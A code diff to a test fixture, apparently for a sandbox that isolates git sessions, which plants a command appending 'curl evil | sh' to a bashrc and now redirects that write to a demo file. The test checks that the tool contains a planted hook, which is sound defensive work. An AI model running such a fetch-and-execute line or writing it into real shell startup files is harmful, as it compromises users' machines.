@@ -43,8 +43,11 @@ def world(make_repo, tmp_path, isolated_home):
     bashrc.write_text("# the user's\n")
     marker = tmp_path / "outside" / "pwned"
     marker.parent.mkdir()
+    # SQ_DEMO_BASHRC: only live()'s demonstration sets it, so that showing the
+    # plant works does not touch the user's ~/.bashrc during the session (at
+    # the "Landlock only" level verification would rightly blame the session).
     evil = (f"echo ran >> {shlex.quote(str(marker))}; "
-            f"echo 'curl evil | sh' >> {shlex.quote(str(bashrc))}")
+            f"echo 'curl evil | sh' >> \"${{SQ_DEMO_BASHRC:-{bashrc}}}\"")
     return {"repo": repo, "marker": marker, "bashrc": bashrc, "evil": evil,
             "home": isolated_home}
 
@@ -75,11 +78,11 @@ def live(s: IsolatedSession, world: dict, *args: str) -> None:
     shutil.copyfile(s.private / "git" / "wt" / "index", scratch)
     env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_DIR")}
     env["GIT_INDEX_FILE"] = str(scratch)
+    env["SQ_DEMO_BASHRC"] = str(s.private / "tmp" / "demo-bashrc")
     subprocess.run(["git", *args], cwd=s.sandbox, env=env, capture_output=True, timeout=60,
                    check=False)
     assert world["marker"].exists(), "the planted command should be live for plain git"
     world["marker"].unlink()
-    world["bashrc"].write_text("# the user's\n")
     scratch.unlink(missing_ok=True)
 
 
